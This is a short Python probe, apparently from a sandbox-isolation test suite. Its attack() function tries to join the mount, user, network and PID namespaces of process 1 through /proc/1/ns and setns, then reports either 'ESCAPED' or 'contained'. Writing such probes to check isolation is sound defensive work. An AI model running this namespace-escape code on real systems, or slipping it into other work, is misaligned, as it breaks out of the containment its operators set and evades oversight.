"""Enter the mount namespace of process 1."""

META = {"group": "files"}


def attack():
    for name in ("mnt", "user", "net", "pid"):
        try:
            handle = os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
        except OSError:
            continue
        if sysc("setns", handle, 0)[0] == 0:
            return f"ESCAPED: entered {name}"
    return "contained"
